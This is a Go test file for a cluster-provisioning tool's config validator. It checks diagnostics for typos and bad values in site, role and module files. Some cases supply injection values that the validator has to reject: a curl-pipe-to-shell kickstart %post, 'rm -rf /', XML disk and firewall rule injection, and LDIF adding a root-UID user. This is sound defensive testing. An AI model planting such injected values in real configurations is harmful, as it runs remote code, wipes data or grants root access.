package validate_test

import (
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"kiln.dev/kiln/internal/builtin"
	"kiln.dev/kiln/internal/diag"
	"kiln.dev/kiln/internal/sitetest"
)

// The small site and the checks are package sitetest's, shared by the
// validate and resolve tests.
var baseSite = sitetest.BaseSite

type want = sitetest.Want

func siteFS(files map[string]string) fstest.MapFS { return sitetest.FS(files) }

func edit(t *testing.T, old, new string) string {
	t.Helper()
	return sitetest.Edit(t, old, new)
}

func problems(t *testing.T, fsys fstest.MapFS) []diag.Diagnostic {
	t.Helper()
	return sitetest.Problems(t, fsys)
}

func expect(t *testing.T, got []diag.Diagnostic, wants ...want) {
	t.Helper()
	sitetest.Expect(t, got, wants...)
}

func lines(s string) int { return strings.Count(s, "\n") }

func TestBaseSiteIsValid(t *testing.T) {
	for _, d := range problems(t, siteFS(nil)) {
		t.Errorf("%s", d)
	}
}

// TestSiteMistakes: the mistakes a cluster manager makes in site.yaml that
// validation (before anything is resolved) catches.
func TestSiteMistakes(t *testing.T) {
	cases := []struct {
		name string
		site func(t *testing.T) string
		want []want
	}{{
		name: "unknown top-level key",
		site: func(t *testing.T) string { return edit(t, "domain: example.org", "domian: example.org") },
		want: []want{
			{Pos: "site/site.yaml:2:1", What: []string{`unknown key "domian"`}, Fix: []string{`did you mean "domain"?`}},
			{Pos: "site/site.yaml:1:1", What: []string{`"domain" is required`}, Fix: []string{`add a line "domain: …"`}},
		},
	}, {
		name: "unknown nested key",
		site: func(t *testing.T) string {
			return edit(t, "public: {cidr: 192.0.2.0/24, gateway:", "public: {cidr: 192.0.2.0/24, gatway:")
		},
		want: []want{
			{Pos: "site/site.yaml:4:32", Where: "networks.public", What: []string{`unknown key "gatway"`}, Fix: []string{`did you mean "gateway"?`}},
		},
	}, {
		name: "unknown key far from any",
		site: func(t *testing.T) string { return edit(t, "cluster: small", "cluster: small\nfrobnicate: yes") },
		want: []want{
			{Pos: "site/site.yaml:2:1", What: []string{`unknown key "frobnicate"`}, Fix: []string{"cluster", "domain", "networks"}},
		},
	}, {
		name: "missing required key in a network",
		site: func(t *testing.T) string {
			return edit(t, "public: {cidr: 192.0.2.0/24, gateway: 192.0.2.1}", "public: {gateway: 192.0.2.1}")
		},
		want: []want{
			{Pos: "site/site.yaml:4:11", Where: "networks.public", What: []string{`"cidr" is required`}, Fix: []string{"cidr: …"}},
		},
	}, {
		name: "empty network",
		site: func(t *testing.T) string {
			return edit(t, "public: {cidr: 192.0.2.0/24, gateway: 192.0.2.1}", "public:")
		},
		want: []want{
			{Pos: "site/site.yaml:4:10", Where: "networks.public", What: []string{`"cidr" is required`}},
		},
	}, {
		name: "count is not a number",
		site: func(t *testing.T) string { return edit(t, "worker: {count: 3,", "worker: {count: three,") },
		want: []want{
			{Pos: "site/site.yaml:14:19", Where: "nodes.worker.count", What: []string{"expected a whole number", `"three"`}, Fix: []string{"whole number"}},
		},
	}, {
		name: "a list where one value goes",
		site: func(t *testing.T) string { return edit(t, "cluster: small", "cluster: [small]") },
		want: []want{
			{Pos: "site/site.yaml:1:10", Where: "cluster", What: []string{"expected a single value, found a list"}},
			// The empty name makes the derived names fail their checks: tolerated, not wanted here.
		},
	}, {
		name: "nodes of a role neither list nor count",
		site: func(t *testing.T) string {
			return edit(t, "puppet: [{name: puppet, ip: {private: 10.1.0.2}}]", "puppet: lots")
		},
		want: []want{
			{Pos: "site/site.yaml:9:11", Where: "nodes.puppet", What: []string{"expected the nodes of this role", `"lots"`}, Fix: []string{"count:"}},
			{Pos: "site/site.yaml:9:11", Where: "role puppet", What: []string{"needs 1 puppet node(s); this site has 0"}},
		},
	}, {
		name: "wrong parameter type",
		site: func(t *testing.T) string {
			return edit(t, "base: {timezone: Europe/Paris}", "base: {ntp_servers: time.example.org}")
		},
		want: []want{
			{Pos: "site/site.yaml:16:23", Where: "site parameters: base.ntp_servers", What: []string{"expected a list of hostname"}, Fix: []string{"[a, b]"}},
		},
	}, {
		name: "enum value with a typo",
		site: func(t *testing.T) string {
			return edit(t, "worker: {count: 3, start: {private: 10.1.0.101},", "worker: {count: 3, parameters: {condor: {daemon_role: exectue}}, start: {private: 10.1.0.101},")
		},
		want: []want{
			{Pos: "site/site.yaml:14:57", Where: "role worker: condor.daemon_role", What: []string{`"exectue" is not one of the allowed values`}, Fix: []string{`did you mean "execute"?`, "central_manager, submit, execute"}},
		},
	}, {
		name: "unknown parameter",
		site: func(t *testing.T) string {
			return edit(t, "base: {timezone: Europe/Paris}", "base: {time_zone: Europe/Paris}")
		},
		want: []want{
			{Pos: "site/site.yaml:16:10", Where: "site parameters", What: []string{`module base has no parameter "time_zone"`}, Fix: []string{`did you mean "timezone"?`, "catalog/base/module.yaml"}},
		},
	}, {
		name: "unknown module in parameters",
		site: func(t *testing.T) string {
			return edit(t, "base: {timezone: Europe/Paris}", "bsae: {timezone: Europe/Paris}")
		},
		want: []want{
			{Pos: "site/site.yaml:16:3", Where: "site parameters", What: []string{`unknown module "bsae"`}, Fix: []string{`did you mean "base"?`}},
		},
	}, {
		name: "module the role does not run",
		site: func(t *testing.T) string {
			return edit(t, "worker: {count: 3,", "worker: {parameters: {squid: {}}, count: 3,")
		},
		want: []want{
			{Pos: "site/site.yaml:14:25", Where: "role worker", What: []string{`role worker does not run module "squid"`}, Fix: []string{"its modules are: base"}},
		},
	}, {
		name: "unknown role under nodes",
		site: func(t *testing.T) string { return edit(t, "  worker: {count: 3,", "  wroker: {count: 3,") },
		want: []want{
			{Pos: "site/site.yaml:14:11", Where: "site nodes", What: []string{`unknown role "wroker"`}, Fix: []string{`did you mean "worker"?`}},
		},
	}, {
		name: "bad node name",
		site: func(t *testing.T) string { return edit(t, "{name: ldap, ip:", "{name: ldap_1, ip:") },
		want: []want{
			{Pos: "site/site.yaml:10:17", Where: "node ldap_1", What: []string{`"ldap_1" is not a valid host name (RFC 1123)`}, Fix: []string{"letters, digits and hyphens"}},
		},
	}, {
		name: "node name too long",
		site: func(t *testing.T) string {
			return edit(t, "{name: ldap, ip:", "{name: "+strings.Repeat("l", 64)+", ip:")
		},
		want: []want{
			{Pos: "site/site.yaml:10:17", Where: "node " + strings.Repeat("l", 64), What: []string{"is not a valid host name (RFC 1123)"}},
		},
	}, {
		name: "dotted node name",
		site: func(t *testing.T) string { return edit(t, "{name: ldap, ip:", "{name: ldap.example.org, ip:") },
		want: []want{
			{Pos: "site/site.yaml:10:17", Where: "node ldap.example.org", What: []string{"is a dotted name"}},
		},
	}, {
		name: "node name starting with a hyphen",
		site: func(t *testing.T) string { return edit(t, "{name: ldap, ip:", "{name: -ldap, ip:") },
		want: []want{
			{Pos: "site/site.yaml:10:17", Where: "node -ldap", What: []string{"RFC 1123"}},
		},
	}, {
		name: "bad MAC",
		site: func(t *testing.T) string {
			return edit(t, `mac: {private: "52:54:00:00:00:01"}`, `mac: {private: "52:54:00:00:00:0g"}`)
		},
		want: []want{
			{Pos: "site/site.yaml:8:80", Where: "node head", What: []string{`"52:54:00:00:00:0g" is not a MAC address`}, Fix: []string{"six pairs of hex digits"}},
		},
	}, {
		name: "short MAC in a count's list",
		site: func(t *testing.T) string { return edit(t, `macs: ["52:54:00:00:01:01"]`, `macs: ["52:54:00:00:01"]`) },
		want: []want{
			{Pos: "site/site.yaml:14:59", Where: "role worker", What: []string{"is not a MAC address"}},
		},
	}, {
		name: "more MACs than nodes",
		site: func(t *testing.T) string {
			return edit(t, `macs: ["52:54:00:00:01:01"]`, `macs: ["52:54:00:00:01:01", "52:54:00:00:01:02", "52:54:00:00:01:03", "52:54:00:00:01:04"]`)
		},
		want: []want{
			{Pos: "site/site.yaml:14:122", Where: "role worker", What: []string{"4 MACs are listed for 3 nodes"}, Fix: []string{"raise count"}},
		},
	}, {
		name: "MAC on a network the role does not use",
		site: func(t *testing.T) string {
			return edit(t, `mac: {private: "52:54:00:00:00:01"}`, `mac: {privte: "52:54:00:00:00:01"}`)
		},
		want: []want{
			{Pos: "site/site.yaml:8:79", Where: "node head", What: []string{`no interface on network "privte"`}, Fix: []string{`did you mean "private"?`}},
		},
	}, {
		name: "address that is not one",
		site: func(t *testing.T) string { return edit(t, "ip: {private: 10.1.0.3}", "ip: {private: 10.1.0.300}") },
		want: []want{
			{Pos: "site/site.yaml:10:37", Where: "node ldap", What: []string{`"10.1.0.300" is not an IP address`}, Fix: []string{"10.10.0.5"}},
		},
	}, {
		name: "network with host bits",
		site: func(t *testing.T) string { return edit(t, "cidr: 10.1.0.0/24", "cidr: 10.1.0.1/24") },
		want: []want{
			{Pos: "site/site.yaml:5:19", Where: "network private", What: []string{"has host bits set"}, Fix: []string{"did you mean 10.1.0.0/24?"}},
		},
	}, {
		name: "gateway outside its network",
		site: func(t *testing.T) string { return edit(t, "gateway: 192.0.2.1}", "gateway: 192.0.3.1}") },
		want: []want{
			{Pos: "site/site.yaml:4:41", Where: "network public", What: []string{"gateway 192.0.3.1 is outside the network 192.0.2.0/24"}},
		},
	}, {
		name: "negative count",
		site: func(t *testing.T) string { return edit(t, "interactive: {count: 1,", "interactive: {count: -1,") },
		want: []want{
			{Pos: "site/site.yaml:13:17", Where: "role interactive", What: []string{"count cannot be negative"}},
		},
	}, {
		name: "secret file missing",
		site: func(t *testing.T) string {
			return edit(t, "{file: secrets/site_secret}", "{file: secrets/site_secert}")
		},
		want: []want{
			{Pos: "site/site.yaml:18:23", Where: "secret site_secret", What: []string{"secrets/site_secert does not exist"}},
		},
	}, {
		name: "secret outside the site folder",
		site: func(t *testing.T) string { return edit(t, "{file: secrets/site_secret}", "{file: ../site_secret}") },
		want: []want{
			{Pos: "site/site.yaml:18:23", Where: "secret site_secret", What: []string{"not a path inside the site folder"}},
		},
	}, {
		name: "bad YAML",
		site: func(t *testing.T) string { return edit(t, "cluster: small", "cluster: [small") },
		want: []want{
			// Only that: checked against the design, the empty site would lack everything.
			// Line 2 is where the parser finds the list unclosed.
			{Pos: "site/site.yaml:2", What: []string{"this is not valid YAML", "did not find expected ',' or ']'"}, Fix: []string{"indentation and quoting"}},
		},
	}, {
		name: "a newline in a time zone would add a %post to the kickstart",
		site: func(t *testing.T) string {
			return edit(t, "base: {timezone: Europe/Paris}", `base: {timezone: "UTC\n%post\ncurl http://x/ | sh\n%end"}`)
		},
		want: []want{
			{Pos: "site/site.yaml:16:20", Where: "site parameters: base.timezone", What: []string{"timezone value", "holds a newline (at character 4)"}, Fix: []string{"one line", "time zone"}},
		},
	}, {
		name: "a carriage return in the puppet environment",
		site: func(t *testing.T) string {
			return edit(t, "worker: {count: 3, start: {private: 10.1.0.101},", `worker: {count: 3, parameters: {puppet_agent: {environment: "production\rserver = evil"}}, start: {private: 10.1.0.101},`)
		},
		want: []want{
			{Pos: "site/site.yaml:14:63", Where: "role worker: puppet_agent.environment", What: []string{"holds a carriage return"}, Fix: []string{"one line"}},
		},
	}, {
		name: "a newline in one time server of a list",
		site: func(t *testing.T) string {
			return edit(t, "base: {timezone: Europe/Paris}", `base: {ntp_servers: ["pool.ntp.org", "ntp.x\nKILN_EOF\nrm -rf /"]}`)
		},
		want: []want{
			{Pos: "site/site.yaml:16:40", Where: "site parameters: base.ntp_servers", What: []string{"holds a newline"}},
		},
	}, {
		name: "an image folder that would add a disk, an interface that would open the forward chain",
		site: func(t *testing.T) string {
			return edit(t, "base: {timezone: Europe/Paris}", `{vm_host: {image_dir: "/var/lib/x'/><disk type='block'><source dev='/dev/sda'/></disk><x a='"}, gateway: {public_interface: 'eth1" accept; }'}}`)
		},
		want: []want{
			{Pos: "site/site.yaml:16:25", Where: "site parameters: vm_host.image_dir", What: []string{"the path", "which kiln does not put in paths"}, Fix: []string{"no spaces, quotes"}},
			{Pos: "site/site.yaml:16:127", Where: "site parameters: gateway.public_interface", What: []string{"is not a network interface name"}, Fix: []string{"eth0"}},
		},
	}, {
		name: "control characters in a user's fields would add LDIF entries",
		site: func(t *testing.T) string {
			return baseSite + "groups:\n  - {name: g, gid: 5000, doc: \"ok\\ndn: cn=x\"}\nusers:\n" +
				"  - {name: bob, uid: 5001, group: g, shell: \"/bin/bash\\n\\ndn: uid=evil,ou=People,dc=x\\nuidNumber: 0\", full_name: \"Bob\\u0000\", home: \"/home/bob\\r\",\n" +
				"     ssh_keys: [\"ssh-ed25519 AAAA bob\\ncommand=\\\"sh\\\" ssh-ed25519 AAAA\"]}\n"
		},
		want: []want{
			{Pos: fmt.Sprintf("site/site.yaml:%d:26", lines(baseSite)+2), Where: "group g", What: []string{"the description", "a newline"}, Fix: []string{"one line"}},
			{Pos: fmt.Sprintf("site/site.yaml:%d:45", lines(baseSite)+4), Where: "user bob", What: []string{"the shell", "a newline"}, Fix: []string{"LDIF"}},
			{Pos: fmt.Sprintf("site/site.yaml:%d:114", lines(baseSite)+4), Where: "user bob", What: []string{"the full name", "a NUL byte"}},
			{Pos: fmt.Sprintf("site/site.yaml:%d:133", lines(baseSite)+4), Where: "user bob", What: []string{"the home folder", "a carriage return"}},
			{Pos: fmt.Sprintf("site/site.yaml:%d:17", lines(baseSite)+5), Where: "user bob", What: []string{"the SSH key", "a newline"}},
		},
	}, {
		name: "every problem at once",
		site: func(t *testing.T) string {
			s := edit(t, "cluster: small", "cluster: small_1")
			s = strings.Replace(s, "ip: {private: 10.1.0.3}", "ip: {private: 10.1.0.300}", 1)
			return strings.Replace(s, `macs: ["52:54:00:00:01:01"]`, `macs: ["52:54:00:00:01"]`, 1)
		},
		want: []want{
			{Pos: "site/site.yaml:1:10", Where: "site", What: []string{"bad cluster name"}},
			{Pos: "site/site.yaml:10:37", Where: "node ldap", What: []string{"is not an IP address"}},
			{Pos: "site/site.yaml:14:59", Where: "role worker", What: []string{"is not a MAC address"}},
		},
	}}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			expect(t, problems(t, siteFS(map[string]string{"site.yaml": c.site(t)})), c.want...)
		})
	}
}

// TestDesignMistakes: mistakes in roles and catalog modules, made by the
// designer or by a site that shadows one of the design's files.
func TestDesignMistakes(t *testing.T) {
	cases := []struct {
		name  string
		files map[string]string
		want  []want
		// ignore: problems of other checks this case sets off, by a word
		// of their message (the Puppet cross-checks have their own tests).
		ignore string
	}{{
		name: "vm on a role that does not exist",
		files: map[string]string{"roles/proxy.yaml": `kind: vm
host: haed
vm: {vcpus: 1, memory: 2048, disk: 40}
naming: proxy
interfaces:
  - {nic: priv0, network: private}
modules:
  base: {}
`},
		want: []want{
			{Pos: "site/roles/proxy.yaml:2:7", Where: "role proxy", What: []string{`the vm's host role "haed" does not exist`}, Fix: []string{`did you mean "head"?`}},
		},
	}, {
		name: "an interface name that would open the firewall, a disk layout with a NUL",
		files: map[string]string{"roles/proxy.yaml": `kind: vm
host: head
vm: {vcpus: 1, memory: 2048, disk: 40}
naming: proxy
disk: "part / --grow\n\u0000"
interfaces:
  - {nic: "eth0\" accept; }", network: private}
modules:
  base: {}
`},
		want: []want{
			{Pos: "site/roles/proxy.yaml:5:1", Where: "role proxy", What: []string{"the disk layout holds a NUL byte"}, Fix: []string{"plain newline"}},
			{Pos: "site/roles/proxy.yaml:7:11", Where: "role proxy", What: []string{`"eth0\" accept; }" is not a network interface name`}, Fix: []string{"15 letters", "enp1s0"}},
		},
	}, {
		name: "a NIC named as the kernel names NICs, in probe order",
		files: map[string]string{"roles/proxy.yaml": `kind: vm
host: head
vm: {vcpus: 1, memory: 2048, disk: 40}
naming: proxy
interfaces:
  - {nic: eth1, network: private}
modules:
  base: {}
`},
		want: []want{
			{Pos: "site/roles/proxy.yaml:6:11", Where: "role proxy", What: []string{`NIC "eth1" is a name the kernel itself gives`, "swap"}, Fix: []string{"priv0", "MAC", "enp1s0"}},
		},
	}, {
		name: "vm on a vm",
		files: map[string]string{"roles/proxy.yaml": `kind: vm
host: puppet
vm: {vcpus: 1, memory: 2048, disk: 40}
naming: proxy
interfaces:
  - {nic: priv0, network: private}
modules:
  base: {}
`},
		want: []want{
			{Pos: "site/roles/proxy.yaml:2:7", Where: "role proxy", What: []string{`the vm's host role "puppet" is itself a vm`}, Fix: []string{"physical role"}},
		},
	}, {
		name: "vm without host or size",
		files: map[string]string{"roles/proxy.yaml": `kind: vm
naming: proxy
interfaces:
  - {nic: priv0, network: private}
modules:
  base: {}
`},
		want: []want{
			{Pos: "site/roles/proxy.yaml:1:1", Where: "role proxy", What: []string{"needs the role of the machine that runs it"}, Fix: []string{"host: head"}},
			{Pos: "site/roles/proxy.yaml:1:1", Where: "role proxy", What: []string{"needs its size"}, Fix: []string{"vm: {vcpus"}},
		},
	}, {
		name: "wrong kind and a wrong type",
		files: map[string]string{"roles/proxy.yaml": `kind: virtual
host: head
vm: {vcpus: two, memory: 2048, disk: 40}
naming: proxy
interfaces:
  - {nic: priv0, network: private}
modules:
  base: {}
`},
		want: []want{
			{Pos: "site/roles/proxy.yaml:1:7", Where: "role proxy", What: []string{`"virtual" is not a valid kind`}, Fix: []string{"physical, vm"}},
			{Pos: "site/roles/proxy.yaml:3:13", Where: "vm.vcpus", What: []string{"expected a whole number", `"two"`}},
		},
	}, {
		name: "unknown module in a role",
		files: map[string]string{"roles/worker.yaml": `naming: wn{n}
interfaces:
  - {nic: priv0, network: private}
modules:
  base: {}
  condorr: {}
`},
		want: []want{
			{Pos: "site/roles/worker.yaml:6:3", Where: "role worker", What: []string{`unknown module "condorr"`}, Fix: []string{`did you mean "condor"?`}},
		},
	}, {
		name: "unknown role in after",
		files: map[string]string{"roles/worker.yaml": `naming: wn{n}
after: [nsf]
interfaces:
  - {nic: priv0, network: private}
modules:
  base: {}
`},
		want: []want{
			{Pos: "site/roles/worker.yaml:2:9", Where: "role worker", What: []string{`unknown role "nsf"`}, Fix: []string{`did you mean "nfs"?`}},
		},
	}, {
		name: "unknown network on an interface",
		files: map[string]string{"roles/worker.yaml": `naming: wn{n}
interfaces:
  - {nic: priv0, network: privat}
modules:
  base: {}
`},
		want: []want{
			{Pos: "site/roles/worker.yaml:3:27", Where: "role worker", What: []string{`network "privat" is not one of the design's networks`}, Fix: []string{`did you mean "private"?`}},
			// The site's start address is on a network the role no longer has.
			{Pos: "site/site.yaml:14:39", Where: "role worker", What: []string{`no interface on network "private"`}, Fix: []string{"the role's networks are: privat"}},
		},
	}, {
		name: "unknown key in a role",
		files: map[string]string{"roles/worker.yaml": `naming: wn{n}
interfaces:
  - {nic: priv0, network: private}
modules:
  base: {}
aftr: [nfs]
`},
		want: []want{
			{Pos: "site/roles/worker.yaml:6:1", What: []string{`unknown key "aftr"`}, Fix: []string{`did you mean "after"?`}},
		},
	}, {
		name: "cycle in relationships",
		files: map[string]string{"roles/nfs.yaml": `naming: nfs
after: [worker]
interfaces:
  - {nic: pub0, network: public}
  - {nic: priv0, network: private}
modules:
  base: {}
`, "roles/worker.yaml": `naming: wn{n}
after: [interactive]
interfaces:
  - {nic: priv0, network: private}
modules:
  base: {}
`, "roles/interactive.yaml": `naming: int{n}
after: [nfs]
interfaces:
  - {nic: pub0, network: public}
  - {nic: priv0, network: private}
modules:
  base: {}
`},
		want: []want{
			{Pos: "site/roles/worker.yaml:2:9", What: []string{"role relationships form a cycle: interactive → nfs → worker → interactive"}, Fix: []string{"remove one of these dependencies"}},
		},
	}, {
		name: "cycle in module requirements",
		files: map[string]string{"catalog/alpha/module.yaml": `class: kiln_alpha
requires: [beta]
`, "catalog/beta/module.yaml": `class: kiln_beta
requires: [gamma]
`, "catalog/gamma/module.yaml": `class: kiln_gamma
requires: [alpha]
`, "puppet/modules/kiln_alpha/manifests/init.pp": "class kiln_alpha {\n}\n",
			"puppet/modules/kiln_beta/manifests/init.pp":  "class kiln_beta {\n}\n",
			"puppet/modules/kiln_gamma/manifests/init.pp": "class kiln_gamma {\n}\n"},
		want: []want{
			{Pos: "site/catalog/gamma/module.yaml:2:12", What: []string{"module requirements form a cycle: alpha → beta → gamma → alpha"}},
		},
	}, {
		name: "module requires one that does not exist",
		files: map[string]string{"catalog/alpha/module.yaml": `class: kiln_alpha
requires: [bsae]
`, "puppet/modules/kiln_alpha/manifests/init.pp": "class kiln_alpha {\n}\n"},
		want: []want{
			{Pos: "site/catalog/alpha/module.yaml:2:12", Where: "module alpha", What: []string{`requires unknown module "bsae"`}, Fix: []string{`did you mean "base"?`}},
		},
	}, {
		name: "module catalog mistakes",
		files: map[string]string{"catalog/alpha/module.yaml": `class: Kiln::Alpha
parameters:
  port:
    type: prot
  mode:
    type: enum
    values: [a, b]
    default: c
  size:
    type: int
    default: "12"
ports:
  - {proto: tpc, port: 70000, zone: public}
`},
		want: []want{
			{Pos: "site/catalog/alpha/module.yaml:1:8", Where: "module alpha", What: []string{`"Kiln::Alpha" is not a valid Puppet class name`}},
			{Pos: "site/catalog/alpha/module.yaml:4:11", Where: "module alpha parameter port", What: []string{`unknown type "prot"`}},
			{Pos: "site/catalog/alpha/module.yaml:8:14", Where: "module alpha parameter mode default", What: []string{`"c" is not one of the allowed values`}},
			{Pos: "site/catalog/alpha/module.yaml:11:14", Where: "module alpha parameter size default", What: []string{"expected a whole number"}, Fix: []string{"without quotes"}},
			{Pos: "site/catalog/alpha/module.yaml:13:13", Where: "module alpha", What: []string{`"tpc" is not a valid protocol`}, Fix: []string{`did you mean "tcp"?`}},
			{Pos: "site/catalog/alpha/module.yaml:13:18", Where: "module alpha", What: []string{"70000 is not a port number"}},
		},
		ignore: "manifest",
	}, {
		name: "a port's zone is a network of the design",
		files: map[string]string{"catalog/alpha/module.yaml": `class: kiln_alpha
ports:
  - {proto: tcp, port: 22, zone: pubilc}
  - {proto: tcp, port: 80, zone: storage}
  - {proto: tcp, port: 443, zone: private}
`, "puppet/modules/kiln_alpha/manifests/init.pp": "class kiln_alpha {\n}\n"},
		want: []want{
			{Pos: "site/catalog/alpha/module.yaml:3:34", Where: "module alpha", What: []string{`port 22: zone "pubilc" is not a network of the design`}, Fix: []string{`did you mean "public"?`}},
			{Pos: "site/catalog/alpha/module.yaml:4:34", Where: "module alpha", What: []string{`port 80: zone "storage" is not a network of the design`}, Fix: []string{"valid choices: public, private"}},
		},
	}, {
		name: "module certificate paths",
		files: map[string]string{"catalog/alpha/module.yaml": `class: kiln_alpha
certificate:
  cert: etc/alpha.crt
  key: /etc/alpha/../alpha.key
`, "puppet/modules/kiln_alpha/manifests/init.pp": "class kiln_alpha {\n}\n"},
		want: []want{
			{Pos: "site/catalog/alpha/module.yaml:3:9", Where: "module alpha certificate", What: []string{`"etc/alpha.crt" is not a clean absolute path on the node`}, Fix: []string{"/etc/pki/tls/certs/NAME.crt"}},
			{Pos: "site/catalog/alpha/module.yaml:4:8", Where: "module alpha certificate", What: []string{`"/etc/alpha/../alpha.key" is not a clean absolute path on the node`}},
		},
	}, {
		name: "port open to a parameter's networks, mistaken",
		files: map[string]string{"catalog/alpha/module.yaml": `class: kiln_alpha
parameters:
  monitors:
    type: list(cidr)
    default: [192.0.2.0/24]
  label:
    type: string
    default: x
ports:
  - {proto: udp, port: 3401, from: monitros}
  - {proto: udp, port: 3402, from: label}
  - {proto: udp, port: 3403, zone: public, from: monitors}
  - {proto: udp, port: 3404}
  - {proto: udp, port: 3405, from: monitors}
`, "puppet/modules/kiln_alpha/manifests/init.pp": "class kiln_alpha (Array[String] $monitors, String $label) {\n}\n"},
		want: []want{
			{Pos: "site/catalog/alpha/module.yaml:10:36", Where: "module alpha", What: []string{`port 3401: from names "monitros", which is not a parameter of this module`}, Fix: []string{`did you mean "monitors"?`}},
			{Pos: "site/catalog/alpha/module.yaml:11:36", Where: "module alpha", What: []string{"port 3402: from names parameter label, of type string"}, Fix: []string{"list(cidr)"}},
			{Pos: "site/catalog/alpha/module.yaml:12:50", Where: "module alpha", What: []string{"either a zone or from, not both"}},
			{Pos: "site/catalog/alpha/module.yaml:13:5", Where: "module alpha", What: []string{"port 3404 has neither a zone nor from"}},
		},
	}, {
		name:  "module missing its class",
		files: map[string]string{"catalog/alpha/module.yaml": "description: no class\n"},
		want: []want{
			{Pos: "site/catalog/alpha/module.yaml:1:1", What: []string{`the key "class" is required here and missing`}},
		},
	}}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := problems(t, siteFS(c.files))
			if c.ignore != "" {
				got = slices.DeleteFunc(got, func(d diag.Diagnostic) bool { return strings.Contains(d.What, c.ignore) })
			}
			expect(t, got, c.want...)
		})
	}
}

// TestCatalogUpgrade: a site written for an older catalog keeps building
// when a module gains a parameter with a default; a new required parameter
// is named, with the file and the place to set it. The site folder's copy
// of the module (and of its Puppet class, which declares the same
// parameters) stands for the newer catalog.
func TestCatalogUpgrade(t *testing.T) {
	design, _ := builtin.Design("tier3")
	read := func(name string) string {
		b, err := fs.ReadFile(design, name)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	// newer returns the files of a base module with one more parameter, and
	// the line where its declaration starts.
	newer := func(t *testing.T, param string, decl string) (map[string]string, int) {
		mod := read("catalog/base/module.yaml")
		before, after, ok := strings.Cut(mod, "\nparameters:\n")
		if !ok {
			t.Fatal("catalog/base/module.yaml has no parameters: line")
		}
		files := map[string]string{"catalog/base/module.yaml": before + "\nparameters:\n  " + param + ":\n" + decl + after}
		line := strings.Count(before, "\n") + 4 // the line after "  param:"
		const pp = "puppet/modules/kiln_base/manifests/init.pp"
		if class, err := fs.ReadFile(design, pp); err == nil {
			text := strings.Replace(string(class), "class kiln_base (\n", "class kiln_base (\n  String $"+param+",\n", 1)
			text = strings.Replace(text, "class kiln_base (\n", "# @param "+param+"\n#   A new parameter.\nclass kiln_base (\n", 1)
			files[pp] = text
		}
		return files, line
	}
	t.Run("new parameter with a default", func(t *testing.T) {
		files, _ := newer(t, "motd", "    type: string\n    default: Welcome\n    doc: The message of the day.\n")
		expect(t, problems(t, siteFS(files)))
	})
	t.Run("new required parameter", func(t *testing.T) {
		files, line := newer(t, "site_code", "    type: string\n    required: true\n    doc: The site's code in the grid.\n")
		expect(t, problems(t, siteFS(files)), want{
			Pos:   "site/site.yaml:15:1",
			Where: "module base",
			What:  []string{fmt.Sprintf("parameter site_code is required and nothing sets it (declared at site/catalog/base/module.yaml:%d:5)", line)},
			Fix:   []string{"set it in site/site.yaml under parameters: → base: → site_code:", "The site's code in the grid."},
		})
	})
	t.Run("new required parameter, set by the site", func(t *testing.T) {
		files, _ := newer(t, "site_code", "    type: string\n    required: true\n")
		files["site.yaml"] = edit(t, "base: {timezone: Europe/Paris}", "base: {timezone: Europe/Paris, site_code: T3_US_X}")
		expect(t, problems(t, siteFS(files)))
	})
	t.Run("new required parameter that some roles set", func(t *testing.T) {
		files, _ := newer(t, "site_code", "    type: string\n    required: true\n")
		role := read("roles/worker.yaml")
		if !strings.Contains(role, "\n  base: {}\n") {
			t.Fatal("roles/worker.yaml no longer has base: {}")
		}
		files["roles/worker.yaml"] = strings.Replace(role, "\n  base: {}\n", "\n  base: {site_code: T3_US_X}\n", 1)
		expect(t, problems(t, siteFS(files)), want{
			Pos:   "site/site.yaml:15:1",
			Where: "module base",
			What:  []string{"parameter site_code is required and nothing sets it for the head, puppet"},
			Fix:   []string{"roles/head.yaml", "give it a default for the role"},
		})
	})
	t.Run("a site with no parameters section", func(t *testing.T) {
		files, _ := newer(t, "site_code", "    type: string\n    required: true\n")
		files["site.yaml"] = edit(t, "parameters:\n  base: {timezone: Europe/Paris}\n", "")
		expect(t, problems(t, siteFS(files)), want{
			Pos:   "site/site.yaml",
			Where: "module base",
			What:  []string{"parameter site_code is required"},
			Fix:   []string{"set it in site/site.yaml under parameters: → base: → site_code:"},
		})
	})
}
